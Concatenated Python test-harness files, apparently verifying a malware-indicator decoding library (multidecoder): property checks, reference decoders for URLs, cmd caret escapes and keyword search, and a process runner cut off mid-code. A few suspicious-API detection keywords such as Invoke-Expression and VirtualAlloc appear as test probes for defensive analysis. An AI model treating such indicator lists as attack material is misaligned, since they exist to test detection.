                continue
            ctx.evaluated()
            ctx.count("build_sequence_steps")
            reg = regmod.build_registry(include=inc, exclude=exc) if r.random() < 0.8 else Multidecoder(regmod.build_registry(include=inc, exclude=exc)).decoders
            kws, ans = split_registry(reg)
            sel = [m for m in mods if (inc is None or m in inc) and not (exc and m in exc)]
            want = [(m, f) for m in sel for f in astmap[m]]
            ok = check_analyzers(ans, want, reporter(case), f"build_registry(include={inc}, exclude={exc}) as call #{step} in this process")
            if len(kws) != n_files:
                reporter(case)("registry:keyword-searchers:count-after-history", f"call #{step}: {len(kws)} keyword searchers, {n_files} non-empty shipped files")
            if ok:
                ctx.nontrivial(repr((step, inc, exc)))
            if step % 50 == 1:
                ctx.sample({"build_registry_call": step, "include": inc, "exclude": exc, "analyzers": len(ans), "keyword_searchers": len(kws)})
        return
    # custom keyword directories
    base = tempfile.mkdtemp(prefix="vf_c18_", dir=env.scratch_root())
    try:
        i = 0
        while not ctx.expired():
            i += 1
            d = os.path.join(base, f"d{i}")
            files = kwgen.make_kw_dir(r, d)
            equal_names = False
            if r.random() < 0.4:
                # the same file name in two different directories
                os.makedirs(os.path.join(d, "windows"), exist_ok=True)
                os.makedirs(os.path.join(d, "linux"), exist_ok=True)
                for sub, words in (("windows", [b"cmdword", b"shared"]), ("linux", [b"bashword", b"shared"])):
                    with open(os.path.join(d, sub, "command"), "wb") as f:
                        f.write(b"\n".join(words) + b"\n")
                equal_names = True
            modfile = None
            if r.random() < 0.35:
                # a keyword list that happens to be named like a decoder module: module selection is about decoders only
                modfile = r.choice(sorted(astmap))
                sub = r.choice(["", "sub"])
                os.makedirs(os.path.join(d, sub), exist_ok=True)
                with open(os.path.join(d, sub, modfile), "wb") as f:
                    f.write(b"modword" + modfile.encode() + b"\nshared\n")
            if r.random() < 0.3:
                open(os.path.join(d, "emptyfile"), "wb").close()
            if r.random() < 0.3:
                with open(os.path.join(d, "blankonly"), "wb") as f:
                    f.write(b"\n\r\n\n")
            case = {"kind": "dir", "files": [[str(p.relative_to(d)), p.read_bytes().hex()] for p in sorted(pathlib.Path(d).rglob("*")) if p.is_file()],
                    "form": r.choice(["absolute", "absolute", "relative", "./relative", "relative/", "absolute/", "pathlike"])}
            if modfile is not None:
                x = r.random()
                others = r.sample(sorted(astmap), 2)
                case["include"] = None if x < 0.6 else sorted({modfile, others[0]})
                case["exclude"] = [modfile] if x < 0.4 else ([modfile, others[1]] if x < 0.6 else (None if x < 0.8 else [others[1]]))
            if ctx.begin(case):
                judge_dir(d, ctx, case, all_ids, equal_names, astmap)
            shutil.rmtree(d, ignore_errors=True)
    finally:
        shutil.rmtree(base, ignore_errors=True)


def judge_dir(d, ctx, case, all_ids, equal_names=False, astmap=None):
    from multidecoder import registry as regmod

    def report(key, msg):
        ctx.violation(key, msg, case)

    ctx.evaluated()
    ctx.count("custom_dirs")
    if equal_names:
        ctx.count("dirs_with_equal_names")
    form = case.get("form", "absolute")
    ctx.count("directory_argument:" + form)
    include, exclude = case.get("include"), case.get("exclude")
    kwargs = {}
    if include is not None:
        kwargs["include"] = list(include)
    if exclude is not None:
        kwargs["exclude"] = list(exclude)
    if kwargs:
        ctx.count("custom_dirs_with_module_selection")
    old = os.getcwd()
    try:
        # the directory argument is a path like any other: relative to the working directory, with or without a trailing
        # separator, as a string or an os.PathLike
        if form in ("relative", "./relative", "relative/"):
            os.chdir(os.path.dirname(d))
            arg = {"relative": os.path.basename(d), "./relative": "./" + os.path.basename(d), "relative/": os.path.basename(d) + "/"}[form]
        elif form == "absolute/":
            arg = d + "/"
        elif form == "pathlike":
            arg = pathlib.Path(d)
        else:
            arg = d
        reg = regmod.build_registry(arg, **kwargs)
    finally:
        os.chdir(old)
    kws, ans = split_registry(reg)
    check_keyword_side(kws, d, ctx, case, report)
    if kwargs and astmap is not None:
        mods = sorted(astmap)
        sel = [m for m in mods if (include is None or m in include) and not (exclude and m in exclude)]
        check_analyzers(ans, [(m, f) for m in sel for f in astmap[m]], report, f"build_registry(<custom keyword directory>, include={include}, exclude={exclude})")
    else:
        check_analyzers(ans, all_ids, report, "build_registry(<custom keyword directory>)")
    # shipped keywords must be absent: a probe of well known shipped keywords yields nothing from the keyword side
    probe = b"VirtualAlloc\nCreateObject\nstrlen\nInvoke-Expression\nHKEY_LOCAL_MACHINE"
    listed = set()
    for p in pathlib.Path(d).rglob("*"):
        if p.is_file():
            listed.update(x.lower() for x in p.read_bytes().splitlines())
    for f in kws:
        for h in f(probe):
            if bytes(h.value).lower() not in listed:
                report("registry:shipped-keywords-present", f"custom keyword directory, but {bytes(h.value)!r} (type {h.type!r}) is still found")
                return
    ctx.nontrivial(repr(case["files"]))
    if ctx.counters["custom_dirs"] % 37 == 1:
        ctx.sample({"keyword_dir_files": [f[0] for f in case["files"]], "keyword_searchers": len(kws), "analyzers": len(ans)})


def replay(case, ctx):
    spec_for = {"default": "default", "canary": "canaries"}
    if case.get("kind") in spec_for:
        run_shard({"name": "replay", "gen": spec_for[case["kind"]]}, ctx)
        return
    if case.get("kind") == "build-seq":
        run_shard({"name": "replay-build-seq", "gen": "build-seq", "seconds": 5}, ctx)
        return
    if case.get("kind") == "inex":
        from multidecoder import registry as regmod
        astmap = ast_decoders()
        mods = sorted(astmap)
        include, exclude = case["include"], case["exclude"]
        ctx.evaluated()
        if include is not None and len(include) == 0:
            return
        inc_arg, exc_arg = shaped(include, case.get("shape", "list")), shaped(exclude, case.get("shape", "list"))
        if case.get("via") == "build_registry":
            _, ans = split_registry(regmod.build_registry(include=inc_arg, exclude=exc_arg))
        else:
            ans = regmod.get_analyzers(include=inc_arg, exclude=exc_arg)
        sel = [m for m in mods if (include is None or m in include) and not (exclude and m in exclude)]
        check_analyzers(ans, [(m, f) for m in sel for f in astmap[m]], lambda k, m: ctx.violation(k, m, case), "replay")
        return
    base = tempfile.mkdtemp(prefix="vf_c18_", dir=env.scratch_root())
    try:
        for rel, rawhex in case["files"]:
            p = os.path.join(base, rel)
            os.makedirs(os.path.dirname(p), exist_ok=True)
            with open(p, "wb") as f:
                f.write(bytes.fromhex(rawhex))
        astmap = ast_decoders()
        judge_dir(base, ctx, case, [(m, f) for m, fs in astmap.items() for f in fs], False, astmap)
    finally:
        shutil.rmtree(base, ignore_errors=True)
