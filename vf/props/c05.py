"""C05 - engine property, see vf/props/engine_common.py and vf/mon_engine.py."""

from __future__ import annotations

from vf.props import engine_common as ec

ID = "C05"
SEL = ec.Sel(c05=True)
RULE = ("Monitor 1: in every child list of every result, the engine-attached children (objects the registry tap saw as top-level "
        "hits) have non-decreasing starts and strictly increasing ends. Monitor 2: per search invocation the recorded hits "
        "are ordered as the property prescribes; a hit enclosed by an earlier kept hit must be absent if that hit was decoded, "
        "and nested under the most recent enclosing undecoded context (never a sibling of an enclosing hit) otherwise; "
        "tallies are kept separately for top-level and nested searches. Workloads as C04, aimed at 'decoded hit inside a "
        "context at positive offset with raw hits inside its span'. 'synth-wide' shard: synthetic registries with 300..25000 one-byte decodable fragments in one text, each three decodings deep, k = 1..5 (up to 75001 searches per scan: per-scan / per-scanner budgets); random registries list the same decoder object twice 12 % of the time. "
        "distinct_nontrivial = distinct cases with a non-empty result.")
ASSUMPTIONS = ["child lists / searches containing a hit whose decoder snapshot was malformed (C03) are skipped and counted"]
EXPECTED_WALL = {"quick": 60, "thorough": 500}
REQUIRED = {"c05_child_lists>=3": 125, "c05_enclosed_by_decoded_top": 12, "c05_enclosed_by_decoded_nested": 12,
            "c05_enclosed_by_decoded_inside_context_offset>0": 12, "c05_enclosed_by_context_top": 12, "real_scans": 62}


def plan(tier, seed):
    return ec.plan(ID, tier, seed, stride3=12, also=("url",))  # results with decoder-built parts (URL pieces) side by side


def run_shard(spec, ctx):
    ec.run_shard(ID, SEL, spec, ctx)


def replay(case, ctx):
    ec.replay(ID, SEL, case, ctx)
