"""C03 - well-formed tree over the input with in-bounds spans."""

from __future__ import annotations

from vf import mon_tree, runner, scan
from vf.gens import inputs, skel
from vf.props import common

ID = "C03"
RULE = ("cases = (input, depth) from the C01 workloads plus URL / indicator grammars and 'same material twice' inputs; every "
        "result of Multidecoder().scan (default registry, under the registry tap) is walked: root fields, every node object "
        "met once, child.parent is the listing node, list(root) == own pre-order walk by identity, 0<=start<=end<=len(parent "
        "value) for every non-root node; an out-of-range node is attributed through the tap to the decoder call that "
        "produced it (or to the engine when the decoder's own snapshot was in range). distinct_nontrivial = distinct "
        "inputs whose tree has a node at depth >= 2.")
ASSUMPTIONS = ["decoder attribution relies on object identity between tap snapshots and tree nodes",
               "RecursionError of list(root) on trees deeper than ~1000 is C01's finding and not judged here"]
EXPECTED_WALL = {"quick": 60, "thorough": 500}
REQUIRED = {"evaluations": 1000, "nodes": 625, "trees_depth>=3": 5}
ALL_DECODERS = 30


def plan(tier, seed):
    quick = tier == "quick"
    shards = []
    items = skel.plan(300 if quick else 4000)
    nsh = 6
    for i in range(nsh):
        shards.append({"name": f"skel{i}", "gen": "skel", "items": items[i::nsh]})
    shards.append({"name": "xor", "gen": "xor"})
    secs = 25 if quick else 280
    for g in ("cmd", "pe", "xorbytes", "matryoshka", "seedmut", "soup", "repeat", "url", "ioc", "expand", "twopaths", "overlap", "unicase", "codec"):
        shards.append({"name": g, "gen": g, "seconds": secs})
    if not quick:
        for g in ("seedmut", "cmd", "url", "repeat", "soup"):
            shards.append({"name": g + "2", "gen": g, "seconds": secs})
    return shards


_H = None


def harness():
    global _H
    if _H is None:
        _H = scan.Harness(tap=True)
    return _H


def judge(data, depth, ctx, label="replay"):
    h = harness()
    case = {"data": runner.hx(data), "depth": depth, "label": label}
    ctx.evaluated()
    try:
        root = h.scan(data, depth)
    except Exception as e:  # noqa: BLE001 - C01's business; counted
        ctx.count("scan_raised(C01)")
        return
    counts = ctx.counters

    def report(key, msg):
        ctx.violation(key, f"{msg}; input {data[:100]!r} depth={depth}", case)

    res = mon_tree.check_c03(root, data, h.tap, report, counts)
    if res and res[1] >= 2:
        ctx.nontrivial(data)
    # which decoders contributed nodes that ended up in the tree
    for call in h.tap.calls:
        if call.hits:
            kept = sum(1 for s in call.hits if s.obj.parent is not None)
            if kept:
                name = "prod:kw" if call.name.startswith("kw:") else "prod:" + call.name
                counts[name] = counts.get(name, 0) + kept
    ctx.sample_light(case, root)


def run_shard(spec, ctx):
    common.add_sampler(ctx)
    r = runner.rng(ctx.seed, ID, spec["name"])
    for label, data, depth in inputs.generate(spec, r):
        if ctx.expired():
            break
        if not ctx.begin({"data": runner.hx(data), "depth": depth, "label": label}):
            continue
        judge(data, depth, ctx, label)


def replay(case, ctx):
    common.add_sampler(ctx)
    judge(runner.unhx(case["data"]), case.get("depth"), ctx, case.get("label", "replay"))


def inconclusive(merged):
    prods = [k for k in merged["counters"] if k.startswith("prod:") and k != "prod:kw"]
    out = []
    if len(prods) < ALL_DECODERS - 2:
        out.append(f"only {len(prods)} of {ALL_DECODERS} decoders contributed a node")
    if "prod:kw" not in merged["counters"]:
        out.append("no keyword searcher contributed a node")
    return out


def evidence_extra(merged):
    return {"decoders_that_contributed_nodes": sorted(k[5:] for k in merged["counters"] if k.startswith("prod:"))}
