"""C01 - scanning is total: scan and the four read-only views never raise; no hang."""

from __future__ import annotations

from vf import runner, scan
from vf.gens import inputs, skel
from vf.props import common

ID = "C01"
RULE = ("cases = (input bytes, depth limit) from skeleton x exhaustive small-alphabet tails for every decoder, -bxor keys "
        "0..999, structured cmd/powershell invocations, valid and malformed PE images, byte arrays with -bxor, layered "
        "wrappers with extreme depth limits, deep context nesting, regex stress (38 repeated units x 14 prefixes x 7 suffixes x 9 "
        "repetition counts), replacements that expand to several indicators, address-reuse histories (scan, drop and collect the "
        "tree, allocate a shorter buffer of the same size class, scan), mutated test literals, token soup (thorough: large "
        "inputs). Each case: Multidecoder().scan + flatten + list(root) + string_summary + json.loads(tree_to_json); "
        "hang = CPU budget exceeded twice (second time alone under RLIMIT_CPU). Added after the blind seed rounds: letters whose Unicode case mapping changes their UTF-8 length around bundled keywords, numeric fields with 4299..70000 leading zeros / digits (interpreter int() digit limit), dotted quads in every octet spelling. "
        "distinct_nontrivial = distinct inputs "
        "(sha1) whose result tree has at least one node below the root.")
ASSUMPTIONS = ["CPython 3.12, regex and pefile wheels are trusted", "inputs capped at 16 KiB (thorough: one 64 KiB-1 MiB class)",
               "non-termination is operationalised as 3x the per-case CPU budget"]
EXPECTED_WALL = {"quick": 60, "thorough": 600}
REQUIRED = {"evaluations": 1000, "views_run": 1000, "gen:skel": 100, "gen:cmd": 6, "gen:pe": 5, "gen:xorbytes": 5, "gen:repeatunit": 1000, "gen:reuse": 20}


def plan(tier, seed):
    quick = tier == "quick"
    shards = []
    secs = 25 if quick else 300
    # time-bounded shards first, then many small finite shards: the pool keeps all workers busy
    for g in ("cmd", "pe", "xorbytes", "matryoshka", "nesting", "seedmut", "reuse", "expand", "bom", "unicase", "codec", "netmix") + (() if quick else ("soup",)):
        shards.append({"name": g, "gen": g, "seconds": secs})
    if not quick:
        shards.append({"name": "seedmut2", "gen": "seedmut", "seconds": secs})
        shards.append({"name": "cmd2", "gen": "cmd", "seconds": secs})
        shards.append({"name": "large", "gen": "large", "seconds": secs})
    items = skel.plan(500 if quick else 6000)
    nsh = 10
    for i in range(nsh):
        shards.append({"name": f"skel{i}", "gen": "skel", "items": items[i::nsh]})
    shards.append({"name": "xor", "gen": "xor"})
    nru = 10
    for i in range(nru):
        shards.append({"name": f"repeatunit{i}", "gen": "repeatunit", "shard": i, "nshards": nru})
    return shards


_H = None


def harness():
    global _H
    if _H is None:
        _H = scan.Harness(tap=False)
    return _H


def judge(data: bytes, depth, ctx, label="replay"):
    h = harness()
    case = {"data": runner.hx(data), "depth": depth, "label": label}
    ctx.evaluated()
    ctx.count("gen:" + label.split(":")[0])
    try:
        root = h.scan(data, depth)
    except Exception as e:  # noqa: BLE001
        ctx.violation("scan:" + scan.exc_key(e), f"scan raised {scan.exc_text(e)} on {data[:80]!r} depth={depth}", case)
        return
    for name, e, _ in scan.run_views(root):
        ctx.count("views_run")
        if e is not None:
            ctx.violation(scan.view_key(name, e, root),
                          f"{name} raised {scan.exc_text(e)} on the tree of {data[:80]!r} (tree depth {scan.tree_depth(root)})",
                          case)
    if root.children:
        ctx.nontrivial(data)
        if depth is not None:
            ctx.count("nontrivial_with_explicit_depth")
    ctx.sample_light(case, root)


KEYWORDS = [b"VirtualAlloc", b"CreateObject", b"strlen", b"Invoke-Expression", b"HKEY_LOCAL_MACHINE", b"WScript.Shell", b"powershell"]


def run_reuse(spec, ctx, r):
    """Histories aimed at state keyed on object identity: a buffer with results near its end is scanned, its tree dropped
    and collected, and a shorter buffer of the same allocation size class is created and scanned right afterwards (CPython
    hands out the address that was just freed)."""
    import gc

    h = harness()
    while not ctx.expired():
        kw = r.choice(KEYWORDS)
        pad = r.randint(8, 120)
        a_hex = runner.hx(r.choice([b"-", b" ", b"x "]) * pad + b" " + kw)
        short_by = r.randint(1, 12)
        fill = r.choice([b"z", b" ", b"q.", b"-"])
        case = {"label": "reuse", "first": a_hex, "short_by": short_by, "fill": runner.hx(fill), "depth": None}
        if not ctx.begin(case):
            continue
        reuse_once(case, ctx, h, gc)


def reuse_once(case, ctx, h, gc):
    first = runner.unhx(case["first"])
    n = max(1, len(first) - case["short_by"])
    fill = runner.unhx(case["fill"])
    try:
        root = h.scan(first)
        scan.run_views(root)
    except Exception:  # noqa: BLE001 - judged below through judge() on its own
        pass
    root = None
    first = None
    gc.collect()
    second = (fill * n)[:n]  # allocated right after the first buffer was freed
    judge(second, None, ctx, "reuse")


def run_shard(spec, ctx):
    common.add_sampler(ctx)
    r = runner.rng(ctx.seed, ID, spec["name"])
    if spec["gen"] == "reuse":
        run_reuse(spec, ctx, r)
        return
    for label, data, depth in inputs.generate(spec, r):
        if ctx.expired():
            break
        if not ctx.begin({"data": runner.hx(data), "depth": depth, "label": label}):
            continue
        judge(data, depth, ctx, label)


def replay(case, ctx):
    common.add_sampler(ctx)
    if case.get("label") == "reuse" and "first" in case:
        import gc
        reuse_once(case, ctx, harness(), gc)
        return
    judge(runner.unhx(case["data"]), case.get("depth"), ctx, case.get("label", "replay"))
