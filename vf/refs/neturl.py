"""References for C10/C12: percent coding, RFC 3986 component spans, dot-segment rule, IPv4 canonical form."""

from __future__ import annotations

_HEX = b"0123456789abcdefABCDEF"
_UNRESERVED = frozenset(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~")


def normalise(raw: bytes) -> bytes:
    """Escapes of unreserved characters decoded, all other escapes upper-cased, nothing else changed."""
    out = bytearray()
    i = 0
    n = len(raw)
    while i < n:
        c = raw[i]
        if c == 0x25 and i + 3 <= n and raw[i + 1] in _HEX and raw[i + 2] in _HEX:
            v = int(raw[i + 1:i + 3], 16)
            if v in _UNRESERVED:
                out.append(v)
            else:
                out += b"%" + raw[i + 1:i + 3].upper()
            i += 3
        else:
            out.append(c)
            i += 1
    return bytes(out)


def decode(raw: bytes) -> bytes:
    """Percent-decoding: every well-formed escape replaced by its byte, malformed ones left alone."""
    out = bytearray()
    i = 0
    n = len(raw)
    while i < n:
        c = raw[i]
        if c == 0x25 and i + 3 <= n and raw[i + 1] in _HEX and raw[i + 2] in _HEX:
            out.append(int(raw[i + 1:i + 3], 16))
            i += 3
        else:
            out.append(c)
            i += 1
    return bytes(out)


def split(url: bytes) -> dict:
    """RFC 3986 appendix B, as component SPANS into `url`. Missing components are None.
    Keys: scheme, authority, userinfo, username, password, host (without brackets), hostport, port, path, query, fragment."""
    n = len(url)
    out = {k: None for k in ("scheme", "authority", "userinfo", "username", "password", "host", "port", "path", "query", "fragment")}
    out["bracketed"] = False
    pos = 0
    # scheme
    i = 0
    while i < n and url[i] not in b":/?#":
        i += 1
    if i < n and url[i] == 0x3A and i > 0:
        out["scheme"] = (0, i)
        pos = i + 1
    # authority
    if url[pos:pos + 2] == b"//":
        a = pos + 2
        b = a
        while b < n and url[b] not in b"/?#":
            b += 1
        out["authority"] = (a, b)
        auth = url[a:b]
        at = auth.rfind(b"@")
        hp_start = a
        if at >= 0:
            out["userinfo"] = (a, a + at)
            ui = auth[:at]
            colon = ui.find(b":")
            if colon >= 0:
                out["username"] = (a, a + colon)
                out["password"] = (a + colon + 1, a + at)
            else:
                out["username"] = (a, a + at)
            hp_start = a + at + 1
        hp = url[hp_start:b]
        # port: trailing ":" digits*
        j = len(hp)
        while j > 0 and 0x30 <= hp[j - 1] <= 0x39:
            j -= 1
        host_end = b
        if j > 0 and hp[j - 1] == 0x3A:
            out["port"] = (hp_start + j, b)
            host_end = hp_start + j - 1
        hs, he = hp_start, host_end
        out["host"] = (hs, he)
        pos = b
    # path
    p = pos
    while p < n and url[p] not in b"?#":
        p += 1
    out["path"] = (pos, p)
    pos = p
    if pos < n and url[pos] == 0x3F:
        q = pos + 1
        while q < n and url[q] != 0x23:
            q += 1
        out["query"] = (pos + 1, q)
        pos = q
    if pos < n and url[pos] == 0x23:
        out["fragment"] = (pos + 1, n)
    return out


def host_inner(url: bytes, span):
    """Span of the host text without IPv6 brackets (plain '[' ']' or their %5B / %5D escapes)."""
    s, e = span
    text = url[s:e]
    low = text.lower()
    if low.startswith(b"[") or low.startswith(b"%5b"):
        s2 = s + (1 if low.startswith(b"[") else 3)
        e2 = e - (1 if low.endswith(b"]") else 3 if low.endswith(b"%5d") else 0)
        return (s2, e2), True
    return (s, e), False


def dot_segments(path_text: bytes):
    """The rule stated in C12 -> (value, removed_any)."""
    raw_segments = path_text.split(b"/")
    decoded = [decode(s).replace(b"/", b"%2F") for s in raw_segments]
    kept: list[bytes] = []
    removed = False
    absolute = path_text.startswith(b"/")
    for seg in decoded:
        if seg == b".":
            removed = True
        elif seg == b"..":
            removed = True
            floor = 1 if absolute else 0  # the empty segment in front of the leading '/' is the root
            if len(kept) > floor:
                kept.pop()
        else:
            kept.append(seg)
    if absolute and kept == [b""]:
        return b"/", True  # only dot segments after the root: the root stays
    return b"/".join(kept), removed


def is_canonical_ipv4(v: bytes) -> bool:
    parts = v.split(b".")
    if len(parts) != 4:
        return False
    for p in parts:
        if not p or not p.isdigit() or len(p) > 3:
            return False
        if len(p) > 1 and p[0:1] == b"0":
            return False
        if int(p) > 255:
            return False
    return True


def aton(text: bytes):
    """inet_aton reading of a host text -> canonical dotted quad or None (libc's parser is trusted)."""
    import socket

    try:
        packed = socket.inet_aton(text.decode("ascii"))
    except (OSError, UnicodeDecodeError, ValueError):
        return None
    return ".".join(str(b) for b in packed).encode()
