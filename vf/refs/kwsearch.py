"""C17 reference: leftmost non-overlapping case-insensitive literal occurrences, alnum-delimited."""

from __future__ import annotations

_ALNUM = frozenset(b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz")


def _fold(c: int) -> int:
    return c + 32 if 65 <= c <= 90 else c


def occurrences(keyword: bytes, data: bytes) -> list[int]:
    """Start offsets of the occurrences a left-to-right literal search yields (resume at the end of
    each occurrence), restricted to those whose neighbours are not ASCII letters/digits."""
    k = len(keyword)
    n = len(data)
    if k == 0:
        return []
    kw = [_fold(c) for c in keyword]
    out = []
    i = 0
    while i + k <= n:
        j = 0
        while j < k and _fold(data[i + j]) == kw[j]:
            j += 1
        if j == k:
            left_ok = i == 0 or data[i - 1] not in _ALNUM
            right_ok = i + k == n or data[i + k] not in _ALNUM
            if left_ok and right_ok:
                out.append(i)
            i += k
        else:
            i += 1
    return out


def _is_upper(c):
    return 65 <= c <= 90


def _is_lower(c):
    return 97 <= c <= 122


def mixed_case(keyword: bytes, matched: bytes) -> bool:
    has_up = any(_is_upper(c) for c in matched)
    has_lo = any(_is_lower(c) for c in matched)
    if not (has_up and has_lo):
        return False  # all upper, all lower, or no letters at all
    for m, k in zip(matched, keyword):
        if (_is_upper(m) and not _is_upper(k)) or (_is_lower(m) and not _is_lower(k)):
            return True
    return False


def expected(label: str, keywords, data: bytes):
    """Multiset (sorted list) of (type, value, obfuscation, start, end)."""
    out = []
    for kw in keywords:
        for s in occurrences(kw, data):
            e = s + len(kw)
            out.append((label, kw, "MixedCase" if mixed_case(kw, data[s:e]) else "", s, e))
    return sorted(out)
