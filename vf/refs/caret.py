"""cmd.exe caret automaton of C16 (states: plain / in-quotes)."""

from __future__ import annotations


def ref(cmd: bytes) -> bytes:
    out = bytearray()
    n = len(cmd)
    i = 0
    quoted = False
    while i < n:
        c = cmd[i]
        if quoted:
            out.append(c)  # carets are literal inside quotes
            if c == 0x22 or c == 0x0D:
                quoted = False  # closing quote, or a CR ends the quoted region
            i += 1
            continue
        if c == 0x5E:  # caret outside quotes
            if i + 1 >= n:
                i += 1  # trailing caret is dropped
            elif cmd[i + 1:i + 3] == b"\r\n":
                i += 3  # line continuation: caret, CR and LF vanish ...
                if i < n:
                    out.append(cmd[i])  # ... and the character after them is kept literally
                    i += 1
            else:
                out.append(cmd[i + 1])  # next character kept literally (no state change)
                i += 2
            continue
        if c == 0x22:
            quoted = True
        out.append(c)
        i += 1
    return bytes(out)
