"""Reference interval-nesting procedure of C06, on plain records with ABSOLUTE
coordinates throughout (the implementation works in shifting relative
coordinates - that difference is the point).

A registry is a list of callables text -> list of hit specs; a hit spec is a
tuple (type, value, obfuscation, start, end, kids) where kids are pre-built
child specs of the same shape (spans relative to the hit's value).

Result: canonical tuples (type, value, obfuscation, start, end, children) with
spans relative to the parent, comparable with vf.tree.canon().
"""

from __future__ import annotations


class M:
    __slots__ = ("type", "value", "obf", "start", "end", "kids")

    def __init__(self, type_, value, obf, start, end, kids=None):
        self.type = type_
        self.value = value
        self.obf = obf
        self.start = start
        self.end = end
        self.kids = kids if kids is not None else []

    def canon(self):
        return (self.type, self.value, self.obf, self.start, self.end, tuple(k.canon() for k in self.kids))


def from_spec(spec) -> M:
    return M(spec[0], spec[1], spec[2], spec[3], spec[4], [from_spec(k) for k in spec[5]])


def search(node: M, k: int, registry, log=None) -> None:
    """Expand `node` in place with at most k decoding steps below it."""
    if k <= 0:
        return
    if node.kids:
        # sub-structure supplied by a decoder: descend, do not search the value itself
        for child in node.kids:
            search(child, k - 1, registry, log)
        return
    text = node.value
    hits = []
    for dec in registry:
        for spec in dec(text):
            if spec[1]:  # non-empty value
                hits.append(spec)
    if log is not None:
        log.append((text, k, len(hits)))
    # start ascending, end descending, registry order (stable sort)
    hits.sort(key=lambda s: (s[3], -s[4]))
    decoded_end = 0
    open_ctx = [(node, 0, len(text))]  # (record, absolute start, absolute end) - innermost last
    for spec in hits:
        a, b = spec[3], spec[4]
        if b <= decoded_end:
            continue  # ends inside an already decoded span
        while len(open_ctx) > 1 and b > open_ctx[-1][2]:
            open_ctx.pop()  # that context does not contain the hit: it is closed for good
        ctx, cs, _ = open_ctx[-1]
        if a - cs == 0 and spec[1] == ctx.value and spec[0] == ctx.type:
            continue  # merely restates its parent
        child = M(spec[0], spec[1], spec[2], a - cs, b - cs, [from_spec(x) for x in spec[5]])
        ctx.kids.append(child)
        covered = ctx.value[a - cs:b - cs]
        if child.value.lower() != covered.lower() or child.kids:
            decoded_end = b
            search(child, k - 1, registry, log)
        else:
            open_ctx.append((child, a, b))


def scan(text: bytes, k: int, registry, log=None):
    root = M("", text, "", 0, len(text))
    search(root, k, registry, log)
    return root.canon()


def scan_node(spec, k: int, registry):
    root = from_spec(spec)
    search(root, k, registry)
    return root.canon()
