"""C19's substitution rule as a function over plain tuples
(type, value, obfuscation, start, end, children) - the canonical form of vf.tree."""

from __future__ import annotations


def flatten_ref(c) -> bytes:
    value = c[1]
    subs = []
    last_end = 0
    for k in c[5]:
        s, e = k[3], k[4]
        if s < last_end:
            continue  # starts before the end of the last substituted child
        flat = flatten_ref(k)
        if flat == value[s:e]:
            continue  # equals the text it covers: left alone
        if k[0].endswith("string"):
            flat = b'"' + flat + b'"'
        subs.append((s, e, flat))
        last_end = e
    out = value
    for s, e, rep in reversed(subs):  # splice right to left: earlier offsets stay valid
        out = out[:s] + rep + out[e:]
    return out


def in_domain(c) -> bool:
    """Precondition of C19: children in bounds and ordered by start (this node only)."""
    n = len(c[1])
    prev = None
    for k in c[5]:
        s, e = k[3], k[4]
        if not (0 <= s <= e <= n):
            return False
        if prev is not None and s < prev:
            return False
        prev = s
    return True


def all_identity(c) -> bool:
    """No node's value differs from the text it covers (whole sub-tree)."""
    for k in c[5]:
        if k[1] != c[1][k[3]:k[4]] or not all_identity(k):
            return False
    return True


def skips_any(c) -> bool:
    """True if, anywhere in the sub-tree, the substitution rule skips (because it starts before the
    end of the last substituted child) a child that would otherwise have been substituted. On trees
    where it is False the deprecated query.squash_replace (no overlap skipping) must agree with flatten."""
    value = c[1]
    last_end = 0
    for k in c[5]:
        if skips_any(k):
            return True
        s, e = k[3], k[4]
        changed = flatten_ref(k) != value[s:e]
        if s < last_end:
            if changed:
                return True
            continue
        if changed:
            last_end = e
    return False
