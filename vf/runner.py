"""Supervisor / worker machinery.

A check is a list of *shards* (JSON specs). The supervisor runs up to NPROC
worker subprocesses (never multiprocessing.Pool: it hangs when a child dies).
Each worker executes the cases of one shard in-process and reports through a
Ctx object. Before every case (or batch of cheap cases) the worker overwrites a
small state file with `<seq>\t<json case>\n`; the supervisor polls that file and
/proc/<pid>/stat, so that

  * a case that burns more CPU than the per-case budget is killed and becomes a
    *hang suspect*; it is re-run alone under RLIMIT_CPU = 3x budget and only a
    second exhaustion is a violation (CPU time, never wall time, decides);
  * a worker that dies from a signal (segfault in a C extension) is reported
    with the case it was executing;
  * in both cases the shard is restarted and fast-forwarded past that case.

A generous wall-clock watchdog around the whole run yields INCONCLUSIVE (exit
2), never a violation.
"""

from __future__ import annotations

import hashlib
import json
import os
import random
import resource
import signal
import subprocess
import sys
import time
import traceback

from vf import env

NPROC = int(os.environ.get("VERIF_NPROC", "0")) or min(16, os.cpu_count() or 1)
CLK_TCK = os.sysconf("SC_CLK_TCK")
CASE_CPU_BUDGET = {"quick": 20.0, "thorough": 60.0}
MAX_VIOL_PER_KEY = 3
MAX_SAMPLES = 8


def digest(obj) -> str:
    if isinstance(obj, bytes):
        raw = obj
    elif isinstance(obj, str):
        raw = obj.encode("utf-8", "surrogatepass")
    else:
        raw = repr(obj).encode("utf-8", "surrogatepass")
    return hashlib.sha1(raw).hexdigest()[:16]


def rng(*parts) -> random.Random:
    """Hash-seed independent RNG: seeded from a string."""
    return random.Random("/".join(str(p) for p in parts))


class Ctx:
    """What a property's run_shard()/replay() sees."""

    def __init__(self, prop_id, tier, seed, spec=None, state_path=None, skip=(), replay_mode=False):
        self.prop_id = prop_id
        self.tier = tier
        self.seed = seed
        self.spec = spec or {}
        self.replay_mode = replay_mode
        self.skip = set(skip)
        self.seq = -1
        self.counters: dict[str, int] = {}
        self.nontrivial_set: set[str] = set()
        self.samples: list = []
        self.violations: dict[str, dict] = {}
        self._state_fd = os.open(state_path, os.O_WRONLY | os.O_CREAT, 0o600) if state_path else None
        self._t0 = time.time()
        # VERIF_TIME_SCALE shortens the time-bounded shards for smoke runs of a tier (floors may then be inconclusive)
        self._seconds = float(self.spec.get("seconds", 0) or 0) * float(os.environ.get("VERIF_TIME_SCALE", "1") or 1)
        self._sample_rng = random.Random(f"samples/{seed}/{self.spec.get('name', '')}")
        self._sample_seen = 0
        self.current_case = None

    # -- case bracketing -------------------------------------------------
    def begin(self, case: dict) -> bool:
        """Announce the next case. Returns False if it must be skipped (a
        restarted shard re-runs everything except the cases that hung/crashed)."""
        self.seq += 1
        if self.seq in self.skip:
            return False
        self.current_case = case
        if self._state_fd is not None:
            line = (str(self.seq) + "\t" + json.dumps(case, separators=(",", ":")) + "\n").encode()
            os.pwrite(self._state_fd, line, 0)
        return True

    def time_left(self) -> float:
